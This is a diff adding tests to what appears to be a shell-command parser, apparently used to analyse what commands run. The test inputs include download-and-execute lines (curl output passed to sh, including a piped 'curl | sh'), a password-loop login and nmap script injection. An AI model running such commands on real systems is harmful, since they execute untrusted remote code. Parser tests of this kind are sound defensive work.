@@ -88,6 +88,20 @@ def test_what_only_a_running_shell_could_know_stays_as_written() -> None:
     assert last("ls /etc/*") == ["ls", "/etc/*"]
 
 
+def test_what_a_loop_is_given_by_a_program_stays_as_written() -> None:
+    assert [act.args for act in read("for p in $(cat w); do login $p; done").acts] == [["w"], ["$p"]]
+
+
+def test_an_act_knows_those_whose_output_stands_among_its_words() -> None:
+    shell = next(act for act in read('sh -c "$(curl -s https://example.org/i)"').acts if act.name == "sh")
+    assert [(act.name, act.args) for act in shell.inner] == [("curl", ["-s", "https://example.org/i"])]
+
+
+def test_what_a_program_is_given_by_a_substitution_of_processes_is_code_to_it() -> None:
+    nmap = next(act for act in read("nmap --script <(echo 'os.exit()')").acts if act.name == "nmap")
+    assert nmap.code == ["os.exit()\n"]
+
+
 def test_a_pipeline_knows_its_neighbours() -> None:
     curl, shell = read("curl -s http://192.0.2.1/x | sh").acts
     assert (curl.after, [act.name for act in shell.before]) == (["sh"], ["curl"])
